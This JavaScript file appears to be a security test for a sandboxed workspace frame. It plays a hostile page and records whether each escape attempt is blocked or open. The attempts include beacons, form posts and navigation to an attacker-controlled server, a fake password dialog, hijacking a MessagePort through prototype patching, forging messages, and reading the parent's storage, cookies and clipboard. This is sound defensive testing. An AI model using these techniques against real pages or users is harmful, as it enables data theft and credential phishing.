// What a hostile page would try. Each attack resolves to "blocked: …" or to "open: …" with what it got. `home` is the
// workspace's origin, `away` a server of the attacker's, which counts what reaches it.
"use strict";

const WAIT_MS = 1500;

// The way to the workspace is in the bridge's closure; whoever patches the prototype can still get at their own.
let stolenPort = null;
const postMessage = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...given) {
  stolenPort = this;
  return postMessage.apply(this, given);
};

const within = (promise) =>
  Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("blocked: nothing came"), WAIT_MS))]);

const got = (read) => {
  const value = read();
  return `open: ${typeof value} ${String(value).slice(0, 80)}`;
};

/** `open` when the element loads, `blocked` when it fails. */
function loads(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  return within(
    new Promise((resolve) => {
      element.onload = () => resolve(`open: ${tag} loaded`);
      element.onerror = () => resolve(`blocked: ${tag} failed`);
      document.body.append(element);
    }),
  );
}

function nested(attributes) {
  return within(
    new Promise((resolve) => {
      addEventListener("message", (event) => {
        if (event.data?.nested) resolve(`open: ${event.data.nested}`);
      });
      document.body.append(Object.assign(document.createElement("iframe"), attributes));
    }),
  );
}

function connects(socket) {
  return within(
    new Promise((resolve) => {
      socket.onopen = () => resolve("open: connected");
      socket.onerror = () => resolve("blocked: no connection");
    }),
  );
}

function clicks(attributes) {
  const link = Object.assign(document.createElement("a"), attributes);
  document.body.append(link);
  link.click();
  return "blocked: clicked, and the test looks where it led";
}

const ATTACKS = {
  "top navigation": ({ away }) => {
    top.location = away;
    return "blocked: assigned, and the test looks where it led";
  },
  "top navigation by open": ({ away }) => (window.open(away, "_top") ? "open: it went" : "blocked: null"),
  "top navigation by link": ({ away }) => clicks({ href: away, target: "_top" }),
  "a popup": ({ away }) => (window.open(away) ? "open: a window" : "blocked: null"),
  "a popup by link": ({ away }) => clicks({ href: away, target: "_blank" }),
  "a download": () => clicks({ href: URL.createObjectURL(new Blob(["x"])), download: "x" }),
  "a dialog": () => {
    alert("Your session has expired. Password?");
    return prompt("Password?") === null ? "blocked: no dialog" : "open: a dialog";
  },
  "a form": ({ away }) => {
    const form = Object.assign(document.createElement("form"), { action: away, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
    return "blocked: sent, and the test looks whether it arrived";
  },
  "a frame of elsewhere": ({ away }) => nested({ src: `${away}nested` }),
  "a frame of the workspace": ({ home }) => nested({ src: `${home}/` }),
  "a frame with an inline script": () =>
    nested({ srcdoc: "<script>parent.postMessage({nested: ['inline']}, '*')</script>" }),
  "a frame's own realm": () => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    return got(() => frame.contentWindow.RTCPeerConnection);
  },
  "an object of elsewhere": ({ away }) => loads("object", { data: away }),
  "a picture of elsewhere": ({ away }) => loads("img", { src: away }),
  "a script of elsewhere": ({ away }) => loads("script", { src: away }),
  "a style of elsewhere": ({ away }) => loads("link", { rel: "stylesheet", href: away }),
  "a hint to connect": ({ away }) => loads("link", { rel: "prefetch", href: away }),
  "an inline script": () => {
    document.body.append(Object.assign(document.createElement("script"), { textContent: "window.inlineRan = 1" }));
    return window.inlineRan ? "open: it ran" : "blocked: it did not run";
  },
  "a script from a string": () => got(() => new Function("return 1")()),
  "the API by fetch": ({ home }) =>
    fetch(`${home}/api/session`, { method: "POST", body: "{}" }).then((answer) => `open: ${answer.status}`),
  "the API by a simple request": ({ home }) =>
    fetch(`${home}/api/session`, { method: "POST", mode: "no-cors", body: "{}" }).then(() => "open: sent"),
  "the API by XMLHttpRequest": ({ home }) =>
    within(
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(`open: ${request.status}`);
        request.onerror = () => resolve("blocked: an error");
        request.open("POST", `${home}/api/session`);
        request.send("{}");
      }),
    ),
  "a beacon": ({ away }) => {
    navigator.sendBeacon(away, "x");
    return "blocked: given away, and the test looks whether it arrived";
  },
  "events of a server": ({ away }) => connects(new EventSource(away)),
  "the workspace's WebSocket": ({ home }) => connects(new WebSocket(`${home.replace("http", "ws")}/workspace`)),
  "the agents' WebSocket": ({ home }) => connects(new WebSocket(`${home.replace("http", "ws")}/agent`)),
  "a worker": () => {
    const made = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    return within(
      new Promise((resolve) => {
        made.onmessage = () => resolve("open: it runs");
        made.onerror = () => resolve("blocked: it failed");
      }),
    );
  },
  "WebRTC": () => got(() => new RTCPeerConnection()),
  "WebTransport": ({ away }) => got(() => new WebTransport(away)),
  "the parent's document": () => got(() => parent.document.body.innerHTML),
  "the parent's address": () => got(() => parent.location.href),
  "the parent's storage": () => got(() => top.sessionStorage.getItem("lineup.session")),
  "cookies": () => got(() => document.cookie),
  "storage": () => got(() => localStorage.length),
  "session storage": () => got(() => sessionStorage.length),
  "a database": () =>
    within(
      new Promise((resolve) => {
        const request = indexedDB.open("x");
        request.onsuccess = () => resolve("open: a database");
        request.onerror = () => resolve("blocked: an error");
      }),
    ),
  "the tabs' channel": () =>
    within(
      new Promise((resolve) => {
        const channel = new BroadcastChannel("lineup.session");
        channel.onmessage = (event) => resolve(`open: ${JSON.stringify(event.data)}`);
        channel.postMessage({ t: "ask" });
      }),
    ),
  "the clipboard": () => navigator.clipboard.readText().then((text) => `open: ${text}`),
  "the camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "open: it films"),
};

/** A frame inside the surface, with the surface's own script in it: what its realm offers. */
const nestedRealm = (script = "nested.js") =>
  nested({ srcdoc: `<script src="${new URL(script, document.baseURI).href}"></script>` });

async function attack(name, places) {
  await new Promise((resolve) => setTimeout(resolve)); // what a debugger evaluates is freer than what a page does
  try {
    return await ATTACKS[name](places);
  } catch (error) {
    return `blocked: ${error.name}: ${error.message}`;
  }
}

/** Speak on this page's own port as if for somebody else; the answers that come. */
function forge(messages) {
  const answers = [];
  const heard = (event) => {
    if (event.data?.t === "ack") answers.push(event.data);
  };
  stolenPort.addEventListener("message", heard);
  for (const message of messages) stolenPort.postMessage(message);
  return new Promise((resolve) => setTimeout(() => resolve(answers), WAIT_MS));
}

lineup.ready();
